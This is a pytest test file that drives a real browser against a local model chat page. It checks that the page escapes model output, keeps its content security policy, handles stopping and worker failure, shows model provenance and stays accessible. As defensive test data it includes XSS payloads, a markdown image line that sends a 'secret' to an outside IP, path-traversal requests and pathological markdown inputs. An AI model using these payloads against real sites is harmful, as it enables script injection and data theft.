"""The chat page in a real browser, over a real socket; the worker repeats what it is told."""

from __future__ import annotations

import asyncio
import os
from collections.abc import AsyncIterator, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from registry.reference import Reference
from registry.store import Store
from runtime.access import keyfile
from runtime.access.keys import new_key
from runtime.access.roles import Role
from schemas.settings import Serve
from tests.support.arrival import KEY, brought
from tests.support.browser import Browser, Page, browsing
from tests.support.http_server import NAME, Site, served

# Where to leave pictures for people to look at.
PICTURES = os.environ.get("UI_PICTURES")
HOSTILE = (
    '<img src=x onerror="window.hurt=1"><script>window.hurt=1</script> '
    "[click](javascript:window.hurt=1) ![see](http://192.0.2.1/leak?q=secret) **bold** `a<b`"
)


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    with browsing(tmp_path_factory.mktemp("browser")) as found:
        yield found


@pytest.fixture
async def site(tmp_path: Path) -> AsyncIterator[Site]:
    async with served(tmp_path / "home") as found:
        yield found


class Visitor:
    """One tab on the page; its methods wait in threads, for the server runs in this loop."""

    def __init__(self, page: Page, site: Site) -> None:
        self.page = page
        self.site = site

    async def do(self, name: str, *arguments: Any, **named: Any) -> Any:
        return await asyncio.to_thread(getattr(self.page, name), *arguments, **named)

    async def open(self, path: str = "/ui/") -> None:
        await self.do("open", f"http://127.0.0.1:{self.site.port}{path}")
        await self.do("until", "document.querySelector('#origin-mark').textContent !== '?'")

    async def ask(self, text: str) -> None:
        await self.do("run", "document.querySelector('#prompt').focus()")
        await self.do("type", text)
        await self.do("press", "Enter")

    async def answered(self) -> None:
        await self.do("until", "document.querySelector('#stop').hidden")

    async def picture(self, name: str) -> None:
        if PICTURES:
            await self.do("picture", Path(PICTURES) / f"{name}.png")


@pytest.fixture
async def visitor(browser: Browser, site: Site) -> Visitor:
    found = Visitor(await asyncio.to_thread(browser.page), site)
    await found.do("size", 1100, 760)
    await found.open()
    return found


# -- the page itself ------------------------------------------------------------------------------


async def test_its_files_are_its_own(site: Site) -> None:
    answer = await site.client.get("/ui", follow_redirects=False)
    assert (answer.status_code, answer.headers["location"]) == (308, "/ui/")
    for name, kind in (("", "html"), ("app.js", "javascript"), ("style.css", "css")):
        answer = await site.client.get(f"/ui/{name}")
        assert answer.status_code == 200
        assert answer.headers["content-type"].startswith(f"text/{kind}")
        policy = answer.headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "unsafe" not in policy
        assert "http" not in policy
        assert answer.headers["x-frame-options"] == "DENY"
        assert "http://" not in answer.text.replace("http://www.w3.org", "")
        assert "https://" not in answer.text
        again = await site.client.get(
            f"/ui/{name}", headers={"If-None-Match": answer.headers["etag"]}
        )
        assert (again.status_code, again.content) == (304, b"")
    for path in ("/ui/nope", "/ui/..%2fapp.py", "/ui/index.html%00"):
        assert (await site.client.get(path)).status_code == 404
    assert (await site.client.post("/ui/")).status_code == 405


async def test_a_conversation(visitor: Visitor) -> None:
    await visitor.ask("one two three")
    await visitor.answered()
    page = visitor.page
    text = await visitor.do("text", "#log")
    assert "You" in text
    assert "tiny:latest" in text
    assert text.count("one two three") == 2
    assert "3 tokens" in text
    await visitor.ask("four")
    await visitor.answered()
    job = visitor.site.machine.workers[0].jobs[-1]
    turns = [(m.role, m.content.strip()) for m in job.prompt.messages]  # type: ignore[union-attr]
    assert turns == [
        ("user", "one two three"),
        ("assistant", "one two three"),
        ("user", "four"),
    ]
    await visitor.picture("conversation")
    await visitor.do("click", "#fresh")
    assert await visitor.do("text", "#log") == ""
    assert page.complaints == []
    origin = f"http://127.0.0.1:{visitor.site.port}/"
    assert all(url.startswith((origin, "data:,")) for url in page.requests)


async def test_what_a_model_writes_is_never_markup(visitor: Visitor) -> None:
    await visitor.ask(HOSTILE)
    await visitor.answered()
    assert await visitor.do("run", "window.hurt") is None
    assert (
        await visitor.do("run", "document.querySelectorAll('#log img, #log a, #log script').length")
        == 0
    )
    text = await visitor.do("text", "article.assistant .text")
    assert '<img src=x onerror="window.hurt=1">' in text
    assert "click (javascript:window.hurt=1)" in text
    assert "see (http://192.0.2.1/leak?q=secret)" in text
    assert await visitor.do("text", "article.assistant strong") == "bold"
    assert await visitor.do("text", "article.assistant .text > p > code") == "a<b"
    assert not any("192.0.2.1" in url for url in visitor.page.requests)
    assert visitor.page.complaints == []
    await visitor.picture("hostile")


async def test_the_policy_holds_even_against_the_page_itself(visitor: Visitor) -> None:
    page = visitor.page
    tried = await visitor.do(
        "run",
        "(() => { try { document.body.innerHTML = '<b>x</b>'; return 'done'; }"
        " catch (error) { return error.name; } })()",
    )
    assert tried == "TypeError"
    away = "fetch('http://127.0.0.1:9/').then(() => 'sent', () => 'refused')"
    assert await visitor.do("run", away) == "refused"
    assert any("Content Security Policy" in text for text in page.complaints)


async def test_markdown(visitor: Visitor) -> None:
    source = r"""
import("/ui/markdown.js").then(({ render }) => {
  const box = document.createElement("div");
  box.append(render(`# Title

Some **bold *and* more** and \`code\`
on two lines.

1. one
2. two
   - inner

   more
- a
- b

> quoted
> **too**

\`\`\`python
x = "<b>"
**not bold**
\`\`\`

| a | b |
|---|--:|
| 1 | 2 |

***
snake_case_stays 2 * 3 * 4`));
  return [...box.querySelectorAll("*")].map((e) => e.tagName).join(" ") + "|" + box.textContent;
})
"""
    found = await visitor.do("run", source)
    tags, _, text = found.partition("|")
    assert tags == (
        "H3 P STRONG EM CODE OL LI LI UL LI P UL LI LI BLOCKQUOTE P STRONG PRE CODE"
        " DIV TABLE THEAD TR TH TH TBODY TR TD TD HR P"
    )
    assert 'x = "<b>"\n**not bold**' in text
    assert "snake_case_stays 2 * 3 * 4" in text


EVIL = (
    "'`'.repeat(200000)",
    "'*a'.repeat(100000)",
    "'['.repeat(200000)",
    "'> '.repeat(100000)",
    "'- '.repeat(100000)",
    "'|'.repeat(100000) + '\\n|-|'",
    "('**a ' + 'b'.repeat(30) + '\\n').repeat(5000)",
    "('| a '.repeat(50) + '\\n' + '|-'.repeat(50) + '\\n').repeat(200)",
    "'#'.repeat(100000) + ' ' + '#'.repeat(100000)",
)


async def test_markdown_that_would_take_for_ever(visitor: Visitor) -> None:
    for evil in EVIL:
        source = (
            "import('/ui/markdown.js').then(({ render }) => { const began = performance.now();"
            f" render({evil}); return performance.now() - began; }})"
        )
        assert await visitor.do("run", source) < 3000, evil


# -- what may go wrong ------------------------------------------------------------------------------


async def test_stopping(visitor: Visitor) -> None:
    machine = visitor.site.machine
    machine.pace.clear()
    await visitor.ask("never ends")
    await visitor.do("until", "!document.querySelector('#stop').hidden")
    await visitor.picture("answering")
    assert await visitor.do("run", "document.querySelector('#model').disabled")
    await visitor.do("press", "Escape")
    await visitor.answered()
    async with asyncio.timeout(10):
        while not machine.workers[0].cancelled:  # noqa: ASYNC110 - another's state
            await asyncio.sleep(0.01)
    assert "stopped" in await visitor.do("text", "article.assistant")
    machine.pace.set()
    await visitor.ask("again")
    await visitor.answered()
    assert "again" in await visitor.do("text", "article.assistant:last-child .text")


async def test_a_worker_that_dies_is_one_clear_error(visitor: Visitor) -> None:
    machine = visitor.site.machine
    machine.pace.clear()
    await visitor.ask("doomed words")
    await visitor.do("until", "!document.querySelector('#stop').hidden")
    async with asyncio.timeout(10):
        while not any(worker.running for worker in machine.workers):  # noqa: ASYNC110 - as above
            await asyncio.sleep(0.01)
    machine.workers[0].die()
    machine.pace.set()
    await visitor.answered()
    assert "the worker died" in await visitor.do("text", "article.assistant .error")
    assert await visitor.do("text", "#status") == "The answer failed."
    await visitor.picture("failed")
    await visitor.ask("anew")
    await visitor.answered()
    assert "anew" in await visitor.do("text", "article.assistant:last-child .text")


async def test_settings_reach_the_worker(visitor: Visitor) -> None:
    await visitor.do("click", "#settings-toggle")
    for field, text in (("system", "Be brief."), ("temperature", "0.3"), ("seed", "7")):
        await visitor.do("run", f"document.querySelector('#{field}').focus()")
        await visitor.do("type", text)
    await visitor.do("run", "document.querySelector('#num_predict').focus()")
    await visitor.do("type", "1")
    await visitor.picture("settings")
    await visitor.ask("one two")
    await visitor.answered()
    job = visitor.site.machine.workers[0].jobs[-1]
    assert job.prompt.messages[0].content == "Be brief."  # type: ignore[union-attr]
    assert (job.sampling.temperature, job.sampling.seed, job.sampling.num_predict) == (0.3, 7, 1)
    assert "cut off" in await visitor.do("text", "article.assistant")


async def test_a_setting_out_of_range_is_told_and_not_sent(visitor: Visitor) -> None:
    await visitor.do("click", "#settings-toggle")
    await visitor.do("run", "document.querySelector('#temperature').focus()")
    await visitor.do("type", "900")
    await visitor.do("click", "#settings-toggle")
    await visitor.ask("one two")
    await visitor.do("until", "document.querySelector('#status').textContent.includes('range')")
    assert await visitor.do("run", "document.activeElement.id") == "temperature"
    assert await visitor.do("run", "document.querySelector('#prompt').value") == "one two"
    assert not visitor.site.machine.workers


async def test_an_empty_store(browser: Browser, site: Site) -> None:
    site.store.remove_model(Reference.parse(NAME))
    visitor = Visitor(await asyncio.to_thread(browser.page), site)
    await visitor.do("open", f"http://127.0.0.1:{site.port}/ui/")
    await visitor.do("until", "document.querySelector('#status').textContent")
    assert "no model here" in await visitor.do("text", "#status")
    assert await visitor.do("run", "document.querySelector('#send').disabled")


async def test_a_server_that_asks_for_a_key(browser: Browser, tmp_path: Path) -> None:
    home = tmp_path / "home"
    key, record = new_key("visitor", (Role.INFER,), now=datetime.now(UTC))
    with Store.open(home) as store:
        keyfile.add(store, record)
    async with served(home, Serve(require_keys=True)) as site:
        visitor = Visitor(await asyncio.to_thread(browser.page), site)
        await visitor.do("open", f"http://127.0.0.1:{site.port}/ui/")
        await visitor.do("until", "document.querySelector('#status').textContent")
        assert "an API key is required" in await visitor.do("text", "#status")
        assert not await visitor.do("run", "document.querySelector('#settings').hidden")
        await visitor.do("run", "document.querySelector('#key').focus()")
        await visitor.do("type", key)
        await visitor.do("press", "Tab")
        await visitor.do("until", "!document.querySelector('#model').disabled")
        await visitor.ask("let me in")
        await visitor.answered()
        assert "let me in" in await visitor.do("text", "article.assistant .text")


# -- where the model comes from ----------------------------------------------------------------------


async def test_a_model_that_nobody_signed(visitor: Visitor) -> None:
    assert await visitor.do("text", "#origin-short") == "Signed by nobody"
    document = (await visitor.site.client.get("/api/provenance?model=tiny")).json()
    assert (document["signed"], document["arrivals"]) == (False, [])
    assert document["digest"].startswith("sha256:")


async def test_a_model_that_a_bundle_brought(browser: Browser, site: Site) -> None:
    brought(site.store, NAME, 4)
    visitor = Visitor(await asyncio.to_thread(browser.page), site)
    await visitor.do("size", 1100, 760)
    await visitor.open()
    assert await visitor.do("text", "#origin-short") == "Signed by acme, imported 2026-03-04"
    await visitor.do("click", "#origin-toggle")
    facts = await visitor.do("text", "#origin-facts")
    for expected in ("acme", KEY, "sha256:", "2026-03-04 05:06 UTC", "number 4"):
        assert expected in facts
    await visitor.picture("origin")


async def test_a_publisher_that_is_no_longer_trusted(browser: Browser, site: Site) -> None:
    brought(site.store, NAME, 4, pinned=False)
    document = (await site.client.get("/api/provenance?model=tiny")).json()
    assert (document["signed"], document["trusted"]) == (True, False)
    visitor = Visitor(await asyncio.to_thread(browser.page), site)
    await visitor.open()
    assert await visitor.do("text", "#origin-short") == "acme, no longer trusted"


async def test_provenance_of_what_is_not_there(site: Site) -> None:
    for path, status in (("?model=nope", 404), ("", 400), ("?model=..", 400)):
        assert (await site.client.get(f"/api/provenance{path}")).status_code == status


# -- for everybody ----------------------------------------------------------------------------------


async def test_with_the_keyboard_alone(visitor: Visitor) -> None:
    seen = []
    for _ in range(9):
        await visitor.do("press", "Tab")
        seen.append(
            await visitor.do("run", "document.activeElement.id || document.activeElement.className")
        )
    assert seen[0] == "skip"
    assert {"model", "origin-toggle", "settings-toggle", "theme", "fresh", "log", "prompt"} <= set(
        seen
    )
    await visitor.do("press", "Escape")
    await visitor.do("run", "document.querySelector('#prompt').focus()")
    await visitor.do("type", "first")
    await visitor.do("press", "Enter", 8)
    assert visitor.site.machine.starts == 0, "Shift+Enter begins a line"


async def test_for_a_screen_reader(visitor: Visitor) -> None:
    await visitor.ask("hello there")
    await visitor.answered()
    names = await visitor.do("names")
    assert "Model" in names["combobox"]
    assert "Message" in names["textbox"]
    assert "Conversation" in names["log"]
    assert "Send" in names["button"]
    assert {"You", "Answer of tiny:latest"} <= set(names["article"])
    assert not any(name == "" for role in ("button", "textbox", "combobox") for name in names[role])


async def test_dark_light_and_narrow(visitor: Visitor) -> None:
    await visitor.ask(
        "# Head\n\nSome **bold** words and `code`.\n\n- one\n- two\n\n```\nx = 1\n```"
    )
    await visitor.answered()
    grounds = set()
    for scheme in ("light", "dark"):
        await visitor.do("prefers", scheme)
        grounds.add(await visitor.do("run", "getComputedStyle(document.body).backgroundColor"))
        await visitor.picture(f"{scheme}")
    assert len(grounds) == 2
    await visitor.do("click", "#theme")  # light, whatever the system prefers
    light = await visitor.do("run", "getComputedStyle(document.body).backgroundColor")
    assert light in grounds
    for width in (320, 480, 768):
        await visitor.do("size", width, 640)
        inside = "document.documentElement.scrollWidth <= innerWidth"
        assert await visitor.do("run", inside), f"nothing sticks out at {width}"
        await visitor.picture(f"narrow-{width}")
    contrast = await visitor.do("run", CONTRAST)
    assert contrast >= 4.5


# WCAG 2.2, 1.4.3: the least contrast of the texts on the page against the ground.
CONTRAST = r"""
(() => {
  const canvas = new OffscreenCanvas(1, 1).getContext("2d", { willReadFrequently: true });
  const luminance = (colour) => {
    canvas.fillStyle = colour;
    canvas.fillRect(0, 0, 1, 1);
    const [r, g, b] = [...canvas.getImageData(0, 0, 1, 1).data].map((v) => {
      const s = v / 255;
      return s <= 0.04045 ? s / 12.92 : ((s + 0.055) / 1.055) ** 2.4;
    });
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const style = getComputedStyle(document.documentElement);
  const resolve = (name) => {
    const probe = document.createElement("i");
    document.body.append(probe);
    probe.style.color = style.getPropertyValue(name);
    const found = getComputedStyle(probe).color;
    probe.remove();
    return found;
  };
  const ground = luminance(resolve("--ground"));
  return Math.min(...["--text", "--faint", "--accent", "--good", "--warn", "--bad"].map((name) => {
    const text = luminance(resolve(name));
    return (Math.max(text, ground) + 0.05) / (Math.min(text, ground) + 0.05);
  }));
})()
"""
